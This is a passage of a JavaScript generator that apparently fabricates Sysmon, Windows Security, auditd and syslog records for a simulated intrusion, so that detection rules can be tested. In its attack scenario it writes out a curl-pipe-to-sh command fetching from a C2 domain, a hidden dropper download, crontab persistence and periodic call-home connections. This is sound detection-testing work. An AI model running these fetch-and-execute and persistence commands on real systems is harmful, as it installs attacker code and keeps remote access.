      ['EXECVE', `argc=${argv.length} ${argv.map((arg, i) => `a${i}=${auditValue(arg)}`).join(' ')}`],
      ['CWD', `cwd=${auditValue(cwd)}`],
      [
        'PATH',
        `item=0 name="${exe}" inode=${inode} dev=fd:00 mode=0100755 ouid=${owner} ogid=${owner} rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
      ],
      [
        'PATH',
        'item=1 name="/lib64/ld-linux-x86-64.so.2" inode=1049 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0',
      ],
      ['PROCTITLE', `proctitle=${argv.length > 1 ? Buffer.from(argv.join('\0')).toString('hex').toUpperCase() : auditValue(argv[0])}`],
    ],
  });
}

/** A file created under a watched folder (`-w /var/spool/cron -p wa -k cron`): openat with O_CREAT. */
function fileCreated(at, { pid, ppid, uid, ses, exe, comm, folder, name, key }) {
  const ids = `auid=${uid} uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid}`;
  auditEvents.push({
    at,
    records: [
      [
        'SYSCALL',
        `arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd${randomHex(8).toLowerCase()} a2=c2 a3=180 items=2 ppid=${ppid} pid=${pid} ${ids} tty=(none) ses=${ses} comm="${comm}" exe="${exe}" subj=unconfined key="${key}"`,
      ],
      ['CWD', `cwd="/var/spool/cron"`],
      [
        'PATH',
        `item=0 name="${folder}" inode=${randomInt(260000, 270000)} dev=fd:00 mode=041730 ouid=0 ogid=0 rdev=00:00 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
      ],
      [
        'PATH',
        `item=1 name="${name}" inode=${randomInt(270000, 280000)} dev=fd:00 mode=0100600 ouid=${uid} ogid=${uid} rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
      ],
      ['PROCTITLE', `proctitle=${Buffer.from('crontab\0-').toString('hex').toUpperCase()}`],
    ],
  });
}

/** An outbound TCP connect (`-S connect -F a2=16 -F success=1 -k network_connect_4`). */
function connected(at, { pid, ppid, uid, ses, exe, comm, ip, port }) {
  const ids = `auid=${uid} uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid}`;
  const address = ip
    .split('.')
    .map((octet) => hex(Number(octet), 2))
    .join('');
  auditEvents.push({
    at,
    records: [
      [
        'SYSCALL',
        `arch=c000003e syscall=42 success=yes exit=0 a0=3 a1=7ffd${randomHex(8).toLowerCase()} a2=10 a3=0 items=0 ppid=${ppid} pid=${pid} ${ids} tty=(none) ses=${ses} comm="${comm}" exe="${exe}" subj=unconfined key="network_connect_4"`,
      ],
      ['SOCKADDR', `saddr=0200${hex(port, 4)}${address}0000000000000000`],
      ['PROCTITLE', `proctitle=${auditValue(exe)}`],
    ],
  });
}

/**
 * What happens on the server, run in time order (see runFileServer) so that process ids and audit
 * session ids count up as the kernel hands them out.
 */
const fileServerActs = [];
const onFileServer = (at, act) => fileServerActs.push({ at, act });
let nextLinuxPid = 2200;
const linuxPid = () => (nextLinuxPid += randomInt(2, 30));
let nextSession = 3127;

function runFileServer() {
  for (const { at, act } of byTime(fileServerActs)) act(at);
}

const USERS = { root: 0, backup: 1002, admin: 1000 };

/** An SSH login by public key: sshd's syslog lines and its audit records. Returns what the logout needs. */
function sshLogin(at, { user, from, fingerprint }) {
  const uid = USERS[user];
  const pid = linuxPid();
  const ses = nextSession++;
  const port = randomInt(50000, 60000);
  const session = { pid, uid, ses, account: user, exe: '/usr/sbin/sshd', from, terminal: 'ssh', port };
  syslog(at, 'auth', 'sshd', pid, `Accepted publickey for ${user} from ${from} port ${port} ssh2: ED25519 SHA256:${fingerprint}`);
  pamSessionStart(at + 0.01, session);
  syslog(at + 0.02, 'authpriv', 'sshd', pid, `pam_unix(sshd:session): session opened for user ${user}(uid=${uid}) by (uid=0)`);
  syslog(at + 0.03, 'auth', 'systemd-logind', 612, `New session ${ses} of user ${user}.`);
  syslog(at + 0.05, 'daemon', 'systemd', 1, `Started session-${ses}.scope - Session ${ses} of User ${user}.`);
  return session;
}

function sshLogout(at, session) {
  const { pid, account, from, port, ses } = session;
  syslog(at, 'auth', 'sshd', pid, `Received disconnect from ${from} port ${port}:11: disconnected by user`);
  syslog(at + 0.001, 'auth', 'sshd', pid, `Disconnected from user ${account} ${from} port ${port}`);
  pamSessionEnd(at + 0.002, session);
  syslog(at + 0.003, 'authpriv', 'sshd', pid, `pam_unix(sshd:session): session closed for user ${account}`);
  syslog(at + 0.01, 'daemon', 'systemd', 1, `session-${ses}.scope: Deactivated successfully.`);
  syslog(at + 0.012, 'auth', 'systemd-logind', 612, `Session ${ses} logged out. Waiting for processes to exit.`);
  syslog(at + 0.02, 'auth', 'systemd-logind', 612, `Removed session ${ses}.`);
}

/** cron runs a job: its PAM session, syslog lines and the shell it starts; returns the shell's pid and the session. */
function cronJob(at, user, command) {
  const uid = USERS[user];
  const session = { pid: linuxPid(), uid, ses: nextSession++, account: user, exe: '/usr/sbin/cron', terminal: 'cron' };
  pamSessionStart(at, session);
  syslog(at + 0.001, 'authpriv', 'CRON', session.pid, `pam_unix(cron:session): session opened for user ${user}(uid=${uid}) by (uid=0)`);
  syslog(at + 0.002, 'cron', 'CRON', session.pid, `(${user}) CMD (${command})`);
  const shell = linuxPid();
  execve(at + 0.003, {
    pid: shell,
    ppid: session.pid,
    uid,
    ses: session.ses,
    exe: '/usr/bin/dash',
    argv: ['/bin/sh', '-c', command],
    cwd: user === 'root' ? '/root' : `/home/${user}`,
  });
  pamSessionEnd(at + 0.9, session);
  syslog(at + 0.901, 'authpriv', 'CRON', session.pid, `pam_unix(cron:session): session closed for user ${user}`);
  return { shell, ses: session.ses };
}

/** The admin checks Samba from the IT workstation, through sudo. */
function adminChecksSamba(at) {
  const admin = sshLogin(at, { user: 'admin', from: ADMIN_WORKSTATION_IP, fingerprint: 'Lq0r1bH0vJ3nQf5yJ9s0m7cJXyZ2QwT4d1pV8eRkS6E' });
  const { uid, ses } = admin;
  const shell = linuxPid();
  execve(at + 0.3, { pid: shell, ppid: admin.pid, uid, ses, exe: '/usr/bin/bash', argv: ['-bash'], cwd: '/home/admin', tty: 'pts0' });
  const sudo = linuxPid();
  const command = ['systemctl', 'status', 'smbd'];
  syslog(
    at + 26.6,
    'authpriv',
    'sudo',
    sudo,
    `   admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/bin/${command.join(' ')}`,
    'notice',
  );
  const sudoCommand = Buffer.from(command.join(' ')).toString('hex').toUpperCase();
  auditEvents.push({
    at: at + 26.61,
    records: [
      [
        'USER_CMD',
        `pid=${sudo} uid=${uid} auid=${uid} ses=${ses} subj=unconfined msg='cwd="/home/admin" cmd=${sudoCommand} exe="/usr/bin/sudo" terminal=pts/0 res=success'`,
      ],
    ],
  });
  syslog(at + 26.62, 'authpriv', 'sudo', sudo, `pam_unix(sudo:session): session opened for user root(uid=0) by admin(uid=${uid})`);
  execve(at + 26.63, {
    pid: linuxPid(),
    ppid: sudo,
    uid: 0,
    auid: uid,
    ses,
    exe: '/usr/bin/systemctl',
    argv: command,
    cwd: '/home/admin',
    tty: 'pts0',
  });
  syslog(at + 28.9, 'authpriv', 'sudo', sudo, 'pam_unix(sudo:session): session closed for user root');
  sshLogout(at + 228.1, admin);
}

/** The server's own routine: sysstat every ten minutes, the hourly jobs, the share sync, and the admin. */
function fileServerRoutine() {
  for (let minute = 5; minute < DURATION / 60; minute += 10)
    onFileServer(minute * 60 + 1.2, (at) => cronJob(at, 'root', 'command -v debian-sa1 > /dev/null && debian-sa1 1 1'));
  onFileServer(17 * 60 + 1.1, (at) => cronJob(at, 'root', '   cd / && run-parts --report /etc/cron.hourly'));
  onFileServer(30 * 60 + 1.3, (at) => {
    const argv = ['/usr/bin/rsync', '-a', '--delete', '/srv/share/', '/mnt/backup/share/'];
    const sync = cronJob(at, 'backup', argv.join(' '));
    execve(at + 0.01, { pid: linuxPid(), ppid: sync.shell, uid: USERS.backup, ses: sync.ses, exe: argv[0], argv, cwd: '/home/backup' });
  });
  onFileServer(10 * 60 + 14.6, adminChecksSamba);
}

const DROPPER = '/home/backup/.cache/.sysupd';

/** From WS-ACCT-07, with jdoe's key: curl | sh fetches a dropper that installs itself in backup's crontab. */
function backupAccountAbused(at) {
  const session = sshLogin(at, { user: 'backup', from: acct.ip, fingerprint: 'vC7bXl9uPq2Wf0Zr8TnY3kD5hJ1sA6eGmQ4oR2iLtU0' });
  const { ses, uid } = session;
  const home = '/home/backup';
  const bash = linuxPid();
  const line = `curl -fsSL https://${C2.sales.domain}/l.sh | sh`;
  execve(at + 0.2, { pid: bash, ppid: session.pid, uid, ses, exe: '/usr/bin/bash', argv: ['bash', '-c', line], cwd: home });
  execve(at + 0.21, {
    pid: linuxPid(),
    ppid: bash,
    uid,
    ses,
    exe: '/usr/bin/curl',
    argv: ['curl', '-fsSL', `https://${C2.sales.domain}/l.sh`],
    cwd: home,
  });
  const sh = linuxPid();
  execve(at + 0.21, { pid: sh, ppid: bash, uid, ses, exe: '/usr/bin/dash', argv: ['sh'], cwd: home });
  execve(at + 0.9, {
    pid: linuxPid(),
    ppid: sh,
    uid,
    ses,
    exe: '/usr/bin/curl',
    argv: ['curl', '-fsSL', '-o', DROPPER, `https://${C2.sales.domain}/u`],
    cwd: home,
  });
  execve(at + 2.4, { pid: linuxPid(), ppid: sh, uid, ses, exe: '/usr/bin/chmod', argv: ['chmod', '+x', DROPPER], cwd: home });
  const crontab = linuxPid();
  execve(at + 2.5, { pid: crontab, ppid: sh, uid, ses, exe: '/usr/bin/crontab', argv: ['crontab', '-'], cwd: home });
  fileCreated(at + 2.52, {
    pid: crontab,
    ppid: sh,
    uid,
    ses,
    exe: '/usr/bin/crontab',
    comm: 'crontab',
    folder: '/var/spool/cron/crontabs',
    name: '/var/spool/cron/crontabs/tmp.Xf3kQ2',
    key: 'cron',
  });
  syslog(at + 2.53, 'cron', 'crontab', crontab, '(backup) REPLACE (backup)');
  sshLogout(at + 3.1, session);
  syslog(at + 59.2, 'cron', 'cron', 598, '(backup) RELOAD (crontabs/backup)');
}

/** The dropper's crontab line (every quarter hour): it starts and calls home. */
function dropperRuns(at) {
  const job = cronJob(at, 'backup', `${DROPPER} >/dev/null 2>&1`);
  const pid = linuxPid();
  execve(at + 0.01, { pid, ppid: job.shell, uid: USERS.backup, ses: job.ses, exe: DROPPER, argv: [DROPPER], cwd: '/home/backup' });
  connected(at + 0.2, { pid, ppid: job.shell, uid: USERS.backup, ses: job.ses, exe: DROPPER, comm: '.sysupd', ip: C2.sales.ip, port: 443 });
}

function fileServerCompromise(at) {
  onFileServer(at, backupAccountAbused);
  for (let run = Math.ceil((at + 60) / 900) * 900; run < DURATION; run += 900) onFileServer(run + 0.4, dropperRuns);
}

// ---- The story ---------------------------------------------------------------------------------------

function tellTheStory() {
  const acctDesk = morning(acct, 12.4);
  const salesDesk = morning(sales, 131.8);
  backgroundActivity(acct, acctDesk, 60, DURATION);
  backgroundActivity(sales, salesDesk, 180, DURATION);
  // The inventory server's periodic check-in, and the workstations' own service logons.
  for (const host of [acct, sales]) {
    for (let at = randomInt(300, 600); at < DURATION; at += 1200) {
      logon(at, host, 3, {
        user: 'svc-inventory',
        sid: `${DOMAIN_SID}-1311`,
        from: INVENTORY_SERVER_IP,
        logonId: `0x${randomHex(7).toLowerCase()}`,
      });
    }
    for (let at = randomInt(200, 500); at < DURATION; at += randomInt(700, 1300)) {
      logon(at, host, 5, { user: 'SYSTEM', domain: 'NT AUTHORITY', sid: 'S-1-5-18', logonId: '0x3e7' });
    }
  }
  logon(1380.2, acct, 7); // jdoe unlocks the screen after a coffee

  const acctApp = launch3cx(acct, acctDesk.explorer, 300.6);
  beacon(acctApp, C2.acct, 900.3, DURATION);
  const sshAt = handsOnAcct(acctApp, 1500.7);

  fileServerRoutine();
  fileServerCompromise(sshAt + 0.6);
  runFileServer();

  const salesApp = launch3cx(sales, salesDesk.explorer, 2400.2);
  beacon(salesApp, C2.sales, 2520.5, DURATION);
  handsOnSales(salesApp, 3000.9);
}

// ---- Writing -----------------------------------------------------------------------------------------

const PROVIDERS = {
  sysmon: { Name: 'Microsoft-Windows-Sysmon', Guid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9' },
  security: { Name: 'Microsoft-Windows-Security-Auditing', Guid: '54849625-5478-4994-A5BA-3E3B0328C30D' },
};

/** One Windows log as evtx_dump's JSON lines; record numbers count per computer, as each host's log does. */
function windowsLog(log, firstRecord) {
  const records = new Map();
  const lines = [];
  let last = -Infinity;
  for (const event of byTime(windowsEvents.filter((e) => e.log === log))) {
    const recordId = (records.get(event.host.name) ?? firstRecord[event.host.name]) + 1;
    records.set(event.host.name, recordId);
    // Sysmon writes its record a few milliseconds after the UtcTime it reports.
    const written = event.at + (log === 'sysmon' ? randomInt(2, 40) / 1000 : 0);
    last = Math.max(last, written);
    const system = {
      Provider: { '#attributes': PROVIDERS[log] },
      EventID: event.eventId,
      Version: log === 'sysmon' ? SYSMON_VERSIONS[event.eventId] : 2,
      Level: log === 'sysmon' ? 4 : 0,
      Task: log === 'sysmon' ? event.eventId : 12544,
      Opcode: 0,
      Keywords: log === 'sysmon' ? '0x8000000000000000' : '0x8020000000000000',
      TimeCreated: { '#attributes': { SystemTime: systemTime(written) } },
      EventRecordID: recordId,
      Correlation: null,
      Execution: { '#attributes': log === 'sysmon' ? { ProcessID: 2964, ThreadID: 3912 } : { ProcessID: 784, ThreadID: 852 } },
      Channel: log === 'sysmon' ? SYSMON_CHANNEL : 'Security',
      Computer: event.host.name,
      Security: log === 'sysmon' ? { '#attributes': { UserID: 'S-1-5-18' } } : null,
    };
    const json = {
      Event: { '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' }, System: system, EventData: event.data },
    };
    lines.push(JSON.stringify(json));
  }
  return { text: lines.join('\n') + '\n', last };
}

/** audit.log lines with `node=` (name_format = hostname); serials count up in time order. */
function auditLog() {
  let serial = 18841;
  const lines = [];
  let last = -Infinity;
  for (const event of byTime(auditEvents)) {
    serial += 1;
    last = Math.max(last, event.at);
    const ms = BASE_MS + Math.round(event.at * 1000);
    const stamp = `${Math.floor(ms / 1000)}.${String(ms % 1000).padStart(3, '0')}:${serial}`;
    for (const [type, body] of event.records) lines.push(`node=${FILE_SERVER.name} type=${type} msg=audit(${stamp}): ${body}`);
  }
  return { text: lines.join('\n') + '\n', last };
}

/** RFC 5424 lines, as rsyslog forwards them: `<PRI>1 TIME HOST APP PROCID - - MSG`. */
function syslogFile() {
  const lines = [];
  let last = -Infinity;
  for (const line of byTime(syslogLines)) {
    last = Math.max(last, line.at);
    const priority = FACILITY[line.facility] * 8 + SEVERITY[line.severity];
    lines.push(`<${priority}>1 ${isoAt(line.at)} ${FILE_SERVER.name} ${line.app} ${line.pid} - - ${line.message}`);
  }
  return { text: lines.join('\n') + '\n', last };
}

function write(outputDir) {
  tellTheStory();
  const outputs = {
    sysmon: windowsLog('sysmon', { [acct.name]: 184402, [sales.name]: 97215 }),
    security: windowsLog('security', { [acct.name]: 402117, [sales.name]: 233590 }),
    auditd: auditLog(),
    syslog: syslogFile(),
  };
  const formats = { sysmon: 'evtx-json', security: 'evtx-json', auditd: 'auditd', syslog: 'syslog' };
  const end = Math.max(...Object.values(outputs).map((o) => o.last));
  const manifest = {
    base: BASE,
    end: new Date(BASE_MS + Math.round(end * 1000)).toISOString(),
    files: Object.keys(FILES).map((key) => ({ path: FILES[key], format: formats[key] })),
    expect: { rules: EXPECTED_RULES, minAlerts: MIN_ALERTS },
  };
  mkdirSync(outputDir, { recursive: true });
  for (const [key, output] of Object.entries(outputs)) writeFileSync(join(outputDir, FILES[key]), output.text);
  writeFileSync(join(outputDir, 'scenario.json'), JSON.stringify(manifest, null, 2) + '\n');
}

write(resolve(process.argv[2] ?? dirname(fileURLToPath(import.meta.url))));
